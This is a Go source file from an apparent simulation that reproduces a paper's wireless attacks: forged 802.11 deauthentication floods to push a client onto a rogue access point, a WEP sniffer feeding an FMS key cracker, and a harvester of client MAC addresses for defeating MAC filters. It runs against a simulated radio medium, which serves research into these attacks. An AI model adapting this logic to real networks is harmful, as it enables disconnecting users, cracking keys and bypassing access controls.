package attack

import (
	"bytes"
	"sort"

	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/wep"
)

// Deauther forges deauthentication frames "from" a legitimate AP to force a
// client off it — 802.11 management frames are unauthenticated, so the
// victim cannot tell (paper §4: "he could force the client's disassociation
// from the legitimate AP until the client associates with the Rogue AP").
type Deauther struct {
	kernel   *sim.Kernel
	injector *dot11.Injector
	stop     bool

	// FramesSent counts forged deauths.
	FramesSent uint64
}

// NewDeauther wraps a radio tuned to the victim's current channel.
func NewDeauther(k *sim.Kernel, medium *phy.Medium, pos phy.Position, channel phy.Channel) *Deauther {
	radio := medium.AddRadio(phy.RadioConfig{Name: "deauther", Pos: pos, Channel: channel})
	return &Deauther{kernel: k, injector: dot11.NewInjector(k, radio)}
}

// SetChannel retunes the deauther.
func (d *Deauther) SetChannel(c phy.Channel) { d.injector.SetChannel(c) }

// Once sends a single forged deauth claiming to come from bssid.
func (d *Deauther) Once(victim, bssid ethernet.MAC) {
	d.FramesSent++
	d.injector.Inject(dot11.Frame{
		Type: dot11.TypeManagement, Subtype: dot11.SubtypeDeauth,
		Addr1: victim, Addr2: bssid, Addr3: bssid,
		Body: (&dot11.ReasonBody{Reason: dot11.ReasonDeauthLeaving}).Marshal(),
	})
}

// Flood keeps deauthing the victim at the given interval until Stop — the
// "until the client associates with the Rogue AP" loop.
func (d *Deauther) Flood(victim, bssid ethernet.MAC, interval sim.Time) {
	d.stop = false
	var tick func()
	tick = func() {
		if d.stop {
			return
		}
		d.Once(victim, bssid)
		d.kernel.After(interval, tick)
	}
	tick()
}

// Stop halts an ongoing flood.
func (d *Deauther) Stop() { d.stop = true }

// WEPSniffer is the Airsnort stand-in: a monitor-mode radio feeding every
// protected data frame into the FMS cracker.
type WEPSniffer struct {
	Monitor *dot11.Monitor
	Cracker *wep.Cracker
}

// NewWEPSniffer starts sniffing on channel for keys of keyLen bytes.
func NewWEPSniffer(k *sim.Kernel, medium *phy.Medium, pos phy.Position, channel phy.Channel, keyLen int) *WEPSniffer {
	radio := medium.AddRadio(phy.RadioConfig{Name: "airsnort", Pos: pos, Channel: channel})
	s := &WEPSniffer{
		Monitor: dot11.NewMonitor(radio),
		Cracker: wep.NewCracker(keyLen),
	}
	var reference []byte // a captured frame used to verify key candidates
	s.Cracker.Verify = func(key wep.Key) bool {
		if reference == nil {
			return true
		}
		_, err := wep.Open(key, reference)
		return err == nil
	}
	s.Monitor.OnFrame = func(f dot11.Frame, info phy.RxInfo) {
		if f.Type != dot11.TypeData || !f.Protected {
			return
		}
		if reference == nil && len(f.Body) >= wep.Overhead+dot11.LLCLen {
			reference = append([]byte(nil), f.Body...)
		}
		s.Cracker.AddSealed(f.Body)
	}
	return s
}

// TryRecoverKey attempts FMS recovery on what has been captured so far.
func (s *WEPSniffer) TryRecoverKey() (wep.Key, error) {
	return s.Cracker.RecoverKey()
}

// MACHarvester sniffs active station MACs — "a MAC address that he has
// observed by sniffing network traffic" (§4) — to defeat MAC ACLs.
type MACHarvester struct {
	Monitor *dot11.Monitor
	seen    map[ethernet.MAC]uint64
	bssids  map[ethernet.MAC]bool
}

// NewMACHarvester starts harvesting on channel.
func NewMACHarvester(k *sim.Kernel, medium *phy.Medium, pos phy.Position, channel phy.Channel) *MACHarvester {
	radio := medium.AddRadio(phy.RadioConfig{Name: "harvester", Pos: pos, Channel: channel})
	h := &MACHarvester{
		Monitor: dot11.NewMonitor(radio),
		seen:    make(map[ethernet.MAC]uint64),
		bssids:  make(map[ethernet.MAC]bool),
	}
	h.Monitor.OnFrame = func(f dot11.Frame, info phy.RxInfo) {
		switch {
		case f.Type == dot11.TypeManagement && f.Subtype == dot11.SubtypeBeacon:
			h.bssids[f.Addr2] = true
			delete(h.seen, f.Addr2)
		case f.Type == dot11.TypeData && f.ToDS:
			if !h.bssids[f.Addr2] {
				h.seen[f.Addr2]++
			}
		}
	}
	return h
}

// ClientMACs lists harvested station addresses in ascending address order.
// The order is deterministic: downstream attack steps (MAC cloning) act on
// this list, so map-iteration order here would make runs seed-unstable.
func (h *MACHarvester) ClientMACs() []ethernet.MAC {
	out := make([]ethernet.MAC, 0, len(h.seen))
	for m := range h.seen {
		out = append(out, m)
	}
	sort.Slice(out, func(i, j int) bool {
		return bytes.Compare(out[i][:], out[j][:]) < 0
	})
	return out
}

// Busiest returns the MAC with the most observed frames, if any. Ties break
// toward the lowest address so the result is a pure function of the frames
// observed, not of map iteration order.
func (h *MACHarvester) Busiest() (ethernet.MAC, bool) {
	var best ethernet.MAC
	var n uint64
	for _, m := range h.ClientMACs() {
		if c := h.seen[m]; c > n {
			best, n = m, c
		}
	}
	return best, n > 0
}
